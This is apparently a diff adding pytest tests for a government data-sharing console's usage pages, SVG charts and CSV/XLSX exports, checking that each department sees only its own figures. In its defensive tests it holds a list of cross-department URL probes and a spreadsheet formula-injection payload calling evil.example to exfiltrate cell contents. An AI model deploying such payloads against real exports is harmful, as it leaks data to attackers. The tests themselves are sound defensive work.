@@ -5,21 +5,28 @@ the console (pages, charts, exports), GraphQL and the command."""
 
 from __future__ import annotations
 
+import contextlib
 import csv
+import html
 import io
 import re
 from datetime import UTC, date, datetime
+from xml.etree import ElementTree
 
+import httpx
 import openpyxl
 import pytest
 from sqlalchemy import create_engine, insert, select, text
 
+from admin import accounts
+from audit.records import AccessRecord
 from audit.tables import access_records
 from govshare.errors import GovshareError
 from govshare.platformdb import make_engine, metadata
-from oversight import usage
+from oversight import charts, exports, usage
 from oversight.usage import NONE, Figures, Period
 from tests.conftest import TEST_DATABASE_PREFIX, World, _api, make_settings, require_engine
+from tests.test_console import ORIGIN, PASSWORD, Console
 
 PERSON = '{ person(idNumber: "371311197811261792") { idNumber name phone } }'
 PERSONS = "{ personList(first: 5) { items { idNumber name countyCode } } }"
@@ -228,3 +235,195 @@ def test_a_period_from_what_was_typed_or_a_coded_refusal():
         with pytest.raises(GovshareError) as refused:
             usage.period(first, last, granularity, today=today)
         assert refused.value.code == code
+
+
+# --- the console: pages, charts, exports, and who sees what -------------------------------------------------
+
+
+@pytest.fixture
+async def console(used):
+    """``used``'s app with three staff accounts (the office's, police's and market's catalog staff) and a browser
+    for each."""
+    api, grants = used
+    runtime = api.app.state.runtime
+    async with runtime.engine.begin() as conn:
+        for username, department in (("office", None), ("police.staff", "police"), ("market.staff", "market")):
+            await accounts.create_account(conn, runtime.settings, username, PASSWORD, username, department=department)
+    browsers = {}
+    async with contextlib.AsyncExitStack() as stack:
+        for username in ("office", "police.staff", "market.staff"):
+            client = await stack.enter_async_context(
+                httpx.AsyncClient(transport=httpx.ASGITransport(app=api.app), base_url=ORIGIN)
+            )
+            browsers[username] = Console(client)
+            assert (await browsers[username].sign_in(username, PASSWORD)).status_code == 303
+        yield api, grants, browsers
+
+
+PERIOD = "from=2026-11-25&to=2026-12-01"
+
+
+def html_table(page: str, name: str) -> list[list[str]]:
+    """The cells of table ``name`` on a page (header first), as text."""
+    found = re.search(rf'<table id="table-{name}">(.*?)</table>', page, re.S)
+    assert found, name
+    return [
+        [html.unescape(re.sub(r"<[^>]+>", "", c)).strip() for c in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)]
+        for row in re.findall(r"<tr[^>]*>(.*?)</tr>", found.group(1), re.S)
+    ]
+
+
+def named(api, kind: str, code: str) -> str:
+    """How the console names a resource or department: its catalog name with its code."""
+    catalog = api.app.state.runtime.catalog
+    return f"{(catalog.resources if kind == 'resource' else catalog.departments)[code].name}（{code}）"
+
+
+def figures_of(cells: list[list[str]], key: str) -> Figures:
+    """The figures of the row of ``cells`` whose first cell is ``key``."""
+    (row,) = [r for r in cells[1:] if r[0] == key]
+    return Figures(*(int(v) for v in row[-len(usage.FIGURES) :]))
+
+
+async def test_the_office_sees_every_departments_resources_with_charts_and_tables(console):
+    api, grants, browsers = console
+    page = await browsers["office"].client.get(f"/console/usage?{PERIOD}")
+    assert page.status_code == 200, page.text
+    assert "script-src 'none'" in page.headers["content-security-policy"] and "<script" not in page.text
+    resources = html_table(page.text, "resources")
+    assert figures_of(resources, named(api, "resource", "police.person")) == POLICE_TOTAL
+    assert figures_of(resources, named(api, "resource", "market.enterprise")).accesses == 2
+    for name in usage.TABLES:  # every table with its chart and both exports
+        assert f'src="/console/usage/chart.svg?from=2026-11-25&amp;to=2026-12-01&amp;granularity=day&amp;table={name}' in page.text
+        assert f'id="export-{name}-csv"' in page.text and f'id="export-{name}-xlsx"' in page.text
+    departments = html_table(page.text, "departments")
+    assert figures_of(departments, named(api, "department", "land")).accesses == 1  # land read market.enterprise only
+    english = await browsers["office"].client.get(f"/console/usage?{PERIOD}&lang=en&provider=police")
+    assert "Usage reports (Art 24)" in english.text and "Consumer department" in english.text
+
+
+async def test_a_departments_staff_sees_its_own_resources_only(console):
+    api, grants, browsers = console
+    police = browsers["police.staff"].client
+    page = await police.get(f"/console/usage?{PERIOD}")
+    assert page.status_code == 200, page.text
+    assert figures_of(html_table(page.text, "resources"), named(api, "resource", "police.person")) == POLICE_TOTAL
+    # market.enterprise, and land, which read only it, are nowhere on the page
+    catalog = api.app.state.runtime.catalog
+    hidden = (catalog.resources["market.enterprise"].name, catalog.departments["land"].name)
+    for absent in ("market.enterprise", *hidden, "land", "NO_GRANT"):
+        assert absent not in page.text, absent
+    grants_table = html_table(page.text, "grants")
+    assert figures_of(grants_table, grants["market"]) == MARKET_PERSON + MARKET_LINK
+    market = await browsers["market.staff"].client.get(f"/console/usage?{PERIOD}")
+    assert figures_of(html_table(market.text, "resources"), named(api, "resource", "market.enterprise")).accesses == 2
+    assert "police.person" not in market.text and "PURPOSE_NOT_APPROVED" not in market.text
+
+
+ATTACKS = [
+    "provider=market",
+    "resource=market.enterprise",
+    "provider=police&resource=market.enterprise",
+    "provider=market&resource=police.person",
+    "provider=&resource=market.enterprise",
+]
+
+
+async def test_no_filter_chart_or_export_url_shows_another_departments_figures(console):
+    api, grants, browsers = console
+    catalog = api.app.state.runtime.catalog
+    hidden = (catalog.resources["market.enterprise"].name, catalog.departments["land"].name, "NO_GRANT", "<svg")
+    for path in ("/console/usage", "/console/usage/chart.svg", "/console/usage/export.csv", "/console/usage/export.xlsx"):
+        for attack in ATTACKS:
+            answer = await browsers["police.staff"].client.get(f"{path}?{PERIOD}&table=resources&{attack}")
+            assert (answer.status_code, "USAGE_NOT_YOURS" in answer.text) == (403, True), (path, attack)
+            assert not any(figure in answer.text for figure in hidden), (path, attack)
+
+
+async def test_signed_out_or_unknown_questions_are_refused(console):
+    api, grants, browsers = console
+    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=api.app), base_url=ORIGIN) as anonymous:
+        for path in ("/console/usage", "/console/usage/chart.svg?table=resources", "/console/usage/export.csv?table=resources"):
+            answer = await anonymous.get(path)
+            assert answer.status_code == 303 and answer.headers["location"] == "/console/login"
+    office = browsers["office"].client
+    for query, code, status in [
+        ("table=nothing", "USAGE_TABLE_UNKNOWN", 400),
+        ("table=resources&from=2026-02-30", "USAGE_BAD_DATE", 400),
+        ("table=resources&granularity=hour", "USAGE_BAD_GRANULARITY", 400),
+        ("table=resources&provider=nobody", "USAGE_PROVIDER_UNKNOWN", 400),
+        ("table=resources&resource=no.such", "USAGE_RESOURCE_UNKNOWN", 400),
+    ]:
+        answer = await office.get(f"/console/usage/chart.svg?{query}")
+        assert (answer.status_code, code in answer.text) == (status, True), (query, answer.text[:300])
+    assert (await office.get("/console/usage/export.pdf?table=resources")).status_code == 404
+
+
+async def test_a_chart_is_svg_without_script_drawing_the_tables_figures(console):
+    api, grants, browsers = console
+    chart = await browsers["police.staff"].client.get(f"/console/usage/chart.svg?{PERIOD}&table=departments")
+    assert chart.status_code == 200
+    assert chart.headers["content-type"].startswith(charts.SVG_MEDIA_TYPE)
+    for header, value in charts.SVG_HEADERS.items():
+        assert chart.headers[header] == value
+    tree = ElementTree.fromstring(chart.text)
+    tags = {element.tag.rsplit("}", 1)[-1] for element in tree.iter()}
+    assert "script" not in tags and "foreignObject" not in tags
+    assert not any(name.startswith("on") for element in tree.iter() for name in element.attrib)
+    texts = [element.text for element in tree.iter() if element.text]
+    for department in ("market", "hrss", "civil"):
+        assert named(api, "department", department) in texts
+    assert "land" not in chart.text  # a consumer of market's resources only
+    assert {"4", "2", "1"} <= set(texts)  # market's, hrss's and civil's accesses, printed on the bars
+
+
+async def test_every_export_holds_exactly_the_table(console):
+    api, grants, browsers = console
+    office = browsers["office"].client
+    page = await office.get(f"/console/usage?{PERIOD}&granularity=week")
+    for name in usage.TABLES:
+        shown = html_table(page.text, name)
+        if len(shown) == 2 and len(shown[1]) == 1:  # "no accesses in the period"
+            shown = shown[:1]
+        exported = await office.get(f"/console/usage/export.csv?{PERIOD}&granularity=week&table={name}")
+        assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
+        assert "attachment" in exported.headers["content-disposition"]
+        assert exported.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
+        rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
+        assert rows == shown, name
+        book = await office.get(f"/console/usage/export.xlsx?{PERIOD}&granularity=week&table={name}")
+        sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
+        cells = [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
+        assert cells == shown, name
+    trend = html_table(page.text, "trend")
+    assert [r[0] for r in trend[1:]] == ["2026-11-23", "2026-11-30"]
+
+
+async def test_texts_that_would_start_a_formula_are_exported_escaped(console):
+    """A purpose is the caller's text: one made to look like a formula is written as text, in both exports."""
+    api, grants, browsers = console
+    runtime = api.app.state.runtime
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    record = AccessRecord(
+        at=TUESDAY, request_id="r-hostile", trace_id="0" * 32, department="market", application="a", key_id="k",
+        operator=None, purpose=hostile, resource="police.person", operation="list", outcome="denied",
+        error_code="@SUM(1)",
+    )
+    await runtime.audit.write([record])
+    office = browsers["office"].client
+    exported = await office.get(f"/console/usage/export.csv?{PERIOD}&table=purposes&provider=police")
+    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
+    assert ["'" + hostile] in [r[:1] for r in rows]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    book = await office.get(f"/console/usage/export.xlsx?{PERIOD}&table=refusals&provider=police")
+    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
+    values = [c for row in sheet.iter_rows() for c in row]
+    assert "'@SUM(1)" in [c.value for c in values]
+    assert all(c.data_type in ("s", "n") for c in values)  # no formula cell
+
+
+def test_a_formula_start_is_escaped_and_nothing_else_changes():
+    for text_ in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
+        assert exports.safe(text_) == "'" + text_
+    for kept in ("1", "a=b", "人口", 5, -3):
+        assert exports.safe(kept) == kept
